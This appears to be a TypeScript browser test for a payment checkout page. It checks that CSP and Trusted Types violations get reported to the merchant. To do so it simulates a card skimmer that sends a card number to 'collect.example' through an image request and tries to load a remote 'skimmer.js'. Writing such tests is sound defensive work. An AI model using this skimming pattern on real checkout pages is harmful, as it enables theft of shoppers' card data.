import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Browser } from "playwright-core";
import { browserAvailable, launchBrowser } from "../support/browser.ts";
import { startTestService, type TestService } from "../support/service.ts";

describe.runIf(browserAvailable())("a browser on the payment page", () => {
  let browser: Browser;
  let shop: TestService;
  beforeAll(async () => {
    [browser, shop] = await Promise.all([launchBrowser(), startTestService()]);
  });
  afterAll(() => Promise.all([browser.close(), shop.close()]));

  const reported = async (): Promise<readonly string[]> => {
    const pool = shop.database.open({ max: 1 });
    const { rows } = await pool.query<{ violation: string }>(
      `select concat_ws(' ', mode, page, directive, blocked) as violation from policy_violation
       where merchant_id = $1 order by violation`,
      [shop.merchant.merchant.merchantId],
    );
    await pool.end();
    return rows.map(({ violation }) => violation);
  };

  it("reports the attempts of a card-stealing script to the merchant", async () => {
    const page = await browser.newPage();
    await page.goto(`${shop.url}/checkout?session=${await shop.api.session()}`);
    await page.evaluate(() => {
      document.createElement("img").src = "https://collect.example/pixel?card=5528790000000008";
      try {
        document.createElement("script").setAttribute("src", "https://collect.example/skimmer.js");
      } catch {
        // Trusted Types block it, and that is reported as well.
      }
    });
    await expect
      .poll(reported)
      .toEqual([
        "test checkout img-src https://collect.example",
        "test checkout require-trusted-types-for trusted-types-sink",
      ]);
    await page.close();
  });
});
